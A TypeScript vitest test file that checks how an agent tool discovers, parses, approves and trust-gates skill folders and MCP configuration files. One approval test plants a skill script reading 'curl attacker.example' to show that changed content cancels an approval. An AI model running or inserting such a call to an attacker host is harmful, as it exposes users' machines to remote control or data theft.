// Skills and MCP files are found where other tools keep them, and read only when the project is trusted.

import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { AgentPlaces } from "../places/agent-places.ts";
import { readMcpFiles } from "../servers/mcp-files.ts";
import { approveSkills, findSkills, versionsOfSkill } from "./find-skills.ts";
import { trustFolder } from "../files/trust-project.ts";

let folder: string;
let places: AgentPlaces;
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), "holdfast-skills-")));
  const [project, home] = [join(folder, "project"), join(folder, "home")];
  mkdirSync(project);
  mkdirSync(home);
  places = { project, home, env: {}, trustFile: join(home, "trusted-folders.json"), trustsProject: true };
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

function write(path: string, text: string): string {
  const file = join(folder, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  return file;
}
const skill = (path: string, fields = ""): string =>
  write(
    `${path}/SKILL.md`,
    `---\nname: ${path.split("/").at(-1)}\ndescription: Fills in forms: PDF and others.\n${fields}---\nText.\n`,
  );

describe("skills", () => {
  test("the project's go before the user's, and .agents before .claude", () => {
    skill("home/.claude/skills/pdf");
    skill("home/.agents/skills/own", "license: MIT\nallowed-tools: Bash(git:*) Read\n");
    skill("project/.claude/skills/pdf");
    const first = skill("project/.agents/skills/pdf");
    const found = findSkills(places);
    expect(found.map(({ name, scope, status }) => `${scope} ${name} ${status}`)).toEqual([
      "project pdf loaded",
      "project pdf hidden",
      "user own loaded",
      "user pdf hidden",
    ]);
    expect(found[0]).toMatchObject({ path: first, description: "Fills in forms: PDF and others." });
    expect(found[2]?.verdicts.map(({ field, verdict }) => `${field} ${verdict}`)).toEqual([
      "name honoured",
      "description honoured",
      "license ignored",
      "allowed-tools ignored",
    ]);
  });

  test("skills of a project that is not trusted are listed and not read", () => {
    skill("project/.agents/skills/pdf");
    expect(findSkills({ ...places, trustsProject: false })).toMatchObject([
      { status: "untrusted", description: "" },
    ]);
  });

  test("all skills of a folder are found and approved, however many there are", () => {
    const names = Array.from({ length: 600 }, (_, at) => `s${at}`);
    for (const name of names) skill(`project/.claude/skills/${name}`);
    expect(approveSkills(places).map(({ name }) => name)).toEqual(names.toSorted());
    const approved = { ...places, trustsProject: false };
    trustFolder(places.trustFile, places.project);
    expect(findSkills(approved).filter(({ status }) => status === "loaded")).toHaveLength(600);
    expect(versionsOfSkill({ path: "", name: "s599", scope: "project" }, places).versions).toHaveLength(1);
  });

  test("a skill that is not approved hides none of the user", () => {
    skill("project/.claude/skills/pdf");
    skill("home/.claude/skills/pdf");
    trustFolder(places.trustFile, places.project);
    const statuses = () =>
      findSkills({ ...places, trustsProject: false }).map(({ scope, status }) => `${scope} ${status}`);
    expect(statuses()).toEqual(["project unapproved", "user loaded"]);
    approveSkills(places);
    expect(statuses()).toEqual(["project loaded", "user hidden"]);
  });

  test("a broken skill never breaks the list", () => {
    skill("project/.agents/skills/good");
    write("project/.agents/skills/broken/SKILL.md", "no front matter");
    write("project/.agents/skills/other/SKILL.md", "---\nname: another\ndescription: d\n---\n");
    write("project/.agents/skills/silent/SKILL.md", "---\nname: silent\n---\n");
    skill("project/.agents/skills/by-hand", "disable-model-invocation: true\n");
    mkdirSync(join(folder, "project/.agents/skills/empty"));
    symlinkSync(skill("outside").replace("/SKILL.md", ""), join(folder, "project/.agents/skills/outside"));
    const found = findSkills(places).map(({ name, status }) => `${name} ${status}`);
    expect(found).toEqual([
      "broken loaded",
      "by-hand loaded",
      "good loaded",
      "other loaded",
      "outside refused",
      "silent refused",
    ]);
  });
});

describe("the shapes of the specification", () => {
  const NAME = "pdf";
  const shape = (frontMatter: string, body = "Text.\n") => {
    write(`project/.agents/skills/${NAME}/SKILL.md`, `---\n${frontMatter}\n---\n${body}`);
    const [found] = findSkills(places);
    return found;
  };
  const both = (fields: string) => `name: ${NAME}\ndescription: Fills forms.\n${fields}`;

  test.each([
    ["the two required fields", both("")],
    ["no text below the fields", both(""), ""],
    ["a description of one letter", `name: ${NAME}\ndescription: d`],
    ["a license", both("license: Proprietary. LICENSE.txt has complete terms")],
    ["a compatibility of 500 characters", both(`compatibility: ${"c".repeat(500)}`)],
    ["metadata", both('metadata:\n  author: example-org\n  version: "1.0"')],
    ["metadata with numbers", both("metadata:\n  version: 1.0\n  draft: true")],
    ["allowed tools as a text", both("allowed-tools: Bash(git:*) Bash(jq:*) Read")],
    ["allowed tools as a list", both("allowed-tools:\n  - Bash(git:*)\n  - Read")],
    ["a description of 1024 characters", `name: ${NAME}\ndescription: ${"d".repeat(1_024)}`],
    [
      "a description of 1024 characters that are two units each",
      `name: ${NAME}\ndescription: ${"😀".repeat(1_024)}`,
    ],
    ["a compatibility of 500 characters that are two units each", both(`compatibility: ${"😀".repeat(500)}`)],
    ["a compatibility of one character", both("compatibility: c")],
    ["a license that names a file of the skill", both("license: LICENSE.txt")],
    ["no metadata in its field", both("metadata: {}")],
    ["no tool in its field", both('allowed-tools: ""')],
    ["fields in another order", `description: d\nname: ${NAME}`],
    ["a rule of Markdown in its text", both(""), "Text.\n\n---\n\nMore.\n"],
    ["a description with an unquoted colon", `name: ${NAME}\ndescription: Use when: forms are to be filled`],
    ["a description over several lines", `name: ${NAME}\ndescription: >\n  Fills\n  forms.`],
    ["all fields", both("license: MIT\ncompatibility: git\nmetadata:\n  a: b\nallowed-tools: Read")],
    ["a field that is not known", both("colour: red")],
  ])("%s is allowed", (_name, frontMatter, body = "Text.\n") => {
    expect(shape(frontMatter, body)).toMatchObject({ status: "loaded", problem: null });
  });

  test.each([
    ["line ends of Windows", (text: string) => text.replaceAll("\n", "\r\n")],
    ["a byte order mark", (text: string) => `\uFEFF${text}`],
    ["no line end after its last line", (text: string) => text.trimEnd()],
  ])("a file with %s is allowed", (_name, change) => {
    write(`project/.agents/skills/${NAME}/SKILL.md`, change(`---\n${both("")}---\nText.\n`));
    expect(findSkills(places)).toMatchObject([{ status: "loaded", description: "Fills forms." }]);
  });

  test.each(["a", "7", "a1-b2-3", `${"a".repeat(31)}-${"b".repeat(32)}`])(
    "the name %s is allowed",
    (name) => {
      write(`project/.agents/skills/${name}/SKILL.md`, `---\nname: "${name}"\ndescription: d\n---\nText.\n`);
      expect(findSkills(places)).toMatchObject([{ name, status: "loaded", problem: null }]);
    },
  );

  test("folders for scripts, references and assets are part of the skill, and of its version", () => {
    const before = shape(both(""));
    for (const file of ["scripts/fill.sh", "references/FORMS.md", "assets/form.pdf", "LICENSE.txt"])
      write(`project/.agents/skills/${NAME}/${file}`, "x");
    const after = shape(both(""));
    expect([before?.status, after?.status]).toEqual(["loaded", "loaded"]);
    expect(after?.hash).not.toBe(before?.hash);
  });

  test.each([
    ["a folder without SKILL.md", "project/.agents/skills/pdf/README.md"],
    ["a file in the place of a folder", "project/.agents/skills/pdf.md"],
    ["SKILL.md beside the folders", "project/.agents/skills/SKILL.md"],
    ["a skill of an installed package", "project/.agents/skills/node_modules/pdf/SKILL.md"],
  ])("%s is no skill", (_name, path) => {
    write(path, `---\nname: ${NAME}\ndescription: d\n---\nText.\n`);
    expect(findSkills(places)).toEqual([]);
  });

  test.each([
    ["no name", "description: d", "d"],
    ["another name than its folder", "name: other\ndescription: d", "d"],
    ["a name with capitals and blanks", "name: PDF Form\ndescription: d", "d"],
    ["a name that is a path", "name: ../pdf\ndescription: d", "d"],
    ["a name of 65 characters", `name: ${"p".repeat(65)}\ndescription: d`, "d"],
    ["a name that is a number", "name: 1\ndescription: d", "d"],
    ["no description", `name: ${NAME}`, "Text."],
    ["a description of spaces", `name: ${NAME}\ndescription: "  "`, "Text."],
    ["a description that is a list", `name: ${NAME}\ndescription: [a]`, "Text."],
    ["a description that is a number", `name: ${NAME}\ndescription: 7`, "7"],
    [
      "a description that is too long",
      `name: ${NAME}\ndescription: d${"😀".repeat(1_600)}`,
      `d${"😀".repeat(767)}`,
    ],
    ["a second description", both("when_to_use: For PDF."), "Fills forms. For PDF."],
    ["a long compatibility", both(`compatibility: ${"c".repeat(501)}`), "Fills forms."],
    ["a license that is a list", both("license: [MIT]"), "Fills forms."],
    ["metadata with maps and lists", both("metadata:\n  a: { b: [c] }"), "Fills forms."],
    ["allowed tools that are a map", both("allowed-tools: { Read: true }"), "Fills forms."],
  ])("%s is read as other tools read it, under the name of the folder", (_name, frontMatter, description) => {
    expect(shape(frontMatter)).toMatchObject({ name: NAME, status: "loaded", description });
  });

  test("a file without fields is a skill, and the first lines of its text describe it", () => {
    write(`project/.agents/skills/${NAME}/SKILL.md`, "# Forms\n\nFills in\nforms.\n\nMore.\n");
    expect(findSkills(places)).toMatchObject([{ status: "loaded", description: "Fills in forms." }]);
  });

  test.each([
    ["PDF_Form", "PDF_Form"],
    ["pdf form (new)", "pdf-form-new"],
    ["Größe", "Gro-e"],
    ["p".repeat(70), "p".repeat(64)],
  ])("a skill in the folder %s has the name %s", (path, name) => {
    write(`project/.agents/skills/${path}/SKILL.md`, "---\ndescription: d\n---\nText.\n");
    expect(findSkills(places)).toMatchObject([{ name, status: "loaded" }]);
  });

  test("skills in folders of folders are found, also behind a link, and not below another skill", () => {
    skill("project/.agents/skills/group/more/pdf");
    skill("project/.agents/skills/group/more/pdf/inner");
    skill("project/shared/linked");
    symlinkSync("../../shared/linked", join(folder, "project/.agents/skills/linked"));
    symlinkSync("..", join(folder, "project/.agents/skills/group/around"));
    expect(findSkills(places).map(({ name, status }) => `${name} ${status}`)).toEqual([
      "pdf loaded",
      "linked loaded",
    ]);
  });

  test.each(["skill.md", "Skill.md"])("%s is named as a file with the wrong name", (name) => {
    write(`project/.agents/skills/${NAME}/${name}`, "---\ndescription: d\n---\nText.\n");
    expect(findSkills(places)).toMatchObject([
      { status: "refused", problem: `the file is called ${name}: rename it to SKILL.md` },
    ]);
  });

  test("a skill that only a person may use says so in any spelling that is not off", () => {
    for (const [value, isForModels] of [
      ["true", false],
      ['"true"', false],
      ["yes", false],
      ["false", true],
    ] as const)
      expect(shape(both(`disable-model-invocation: ${value}`))).toMatchObject({
        status: "loaded",
        isForModels,
      });
  });

  test.each([
    ["no description and no text", `name: ${NAME}`, "it is missing", ""],
    ["a field twice", both("name: pdf"), "stands twice"],
    ["an alias of YAML", `name: &n ${NAME}\ndescription: *n`, "uses the alias"],
    ["front matter that is not YAML", `name: [${NAME}`, "is not YAML"],
    ["front matter that is a list", "- name", "not a list of fields"],
    ["a misspelt restriction", both("disable-model-invocations: true"), "misspelt restriction"],
  ])("%s is refused with its reason", (_name, frontMatter, reason, body = "Text.\n") => {
    const found = shape(frontMatter, body);
    expect(found).toMatchObject({ status: "refused", hash: null });
    expect([found?.problem, ...(found?.verdicts.map(({ text }) => text) ?? [])].join("\n")).toContain(reason);
  });

  test.each([
    ["is no UTF-8", Buffer.from([0x2d, 0x2d, 0x2d, 0xff]), "not UTF-8"],
    ["has a front matter without an end", Buffer.from("---\nname: pdf\n"), "has no end"],
    ["has more than 1 MiB", Buffer.alloc(1024 * 1024 + 1, "x"), "is the limit"],
  ])("a file that %s is refused with its reason", (_name, bytes, reason) => {
    const file = write("project/.agents/skills/pdf/SKILL.md", "");
    writeFileSync(file, bytes);
    expect(findSkills(places)).toMatchObject([
      { status: "refused", problem: expect.stringContaining(reason) },
    ]);
  });
});

describe("approvals", () => {
  const status = () =>
    findSkills({ ...places, trustsProject: false }).map((one) => `${one.name} ${one.status}`);

  test("an approval holds for the approved content, and ends with any change of a file", () => {
    skill("project/.agents/skills/pdf");
    skill("project/.agents/skills/web");
    skill("home/.agents/skills/own");
    trustFolder(places.trustFile, places.project);
    expect(status()).toEqual(["pdf unapproved", "web unapproved", "own loaded"]);
    approveSkills(places, ["pdf"]);
    expect(status()).toEqual(["pdf loaded", "web unapproved", "own loaded"]);
    const script = write("project/.agents/skills/pdf/scripts/run.sh", "curl attacker.example\n");
    expect(status()[0]).toBe("pdf unapproved");
    rmSync(script);
    rmSync(dirname(script), { recursive: true });
    expect(status()[0]).toBe("pdf loaded");
    approveSkills(places);
    expect(status()).toEqual(["pdf loaded", "web loaded", "own loaded"]);
  });

  test("the approval of a removed skill ends, and a damaged file of approvals is an error", () => {
    skill("project/.agents/skills/pdf");
    trustFolder(places.trustFile, places.project);
    approveSkills(places);
    rmSync(join(folder, "project/.agents/skills/pdf"), { recursive: true });
    approveSkills(places);
    skill("project/.agents/skills/pdf");
    expect(status()).toEqual(["pdf unapproved"]);
    write("home/approved-skills.json", '{"skills":[]}');
    expect(status).toThrow(/the file of approved skills cannot be used/);
  });
});

describe("MCP files", () => {
  const servers = {
    good: { command: "node", args: ["x.js"] },
    web: { type: "http", url: "https://x.example/mcp" },
    off: { command: "x", disabled: true },
    limited: { command: "x", includeTools: ["a"] },
    text: "x",
  };

  test("each server has a verdict, and one that is refused leaves the others usable", () => {
    write("project/.mcp.json", JSON.stringify({ mcpServers: servers, version: 1 }));
    write("project/.vscode/mcp.json", JSON.stringify({ servers: { code: { command: "y" } }, inputs: [] }));
    const [first, second] = readMcpFiles(places);
    expect(Object.keys(first?.servers ?? {})).toEqual(["good", "web"]);
    expect(first?.verdicts.map(({ field, verdict }) => `${field} ${verdict}`)).toEqual([
      "version ignored",
      "mcpServers.good honoured",
      "mcpServers.web honoured",
      "mcpServers.off ignored",
      "mcpServers.limited refused",
      "mcpServers.text refused",
    ]);
    expect(second).toMatchObject({ servers: { code: { type: "stdio", command: "y" } } });
  });

  test("a file that is no JSON is a problem, and one of a project that is not trusted is not read", () => {
    write("project/.mcp.json", "{");
    expect(readMcpFiles(places)).toMatchObject([
      { status: "refused", problem: expect.stringContaining("is not JSON") },
    ]);
    expect(readMcpFiles({ ...places, trustsProject: false })).toMatchObject([
      { status: "untrusted", problem: null },
    ]);
  });
});
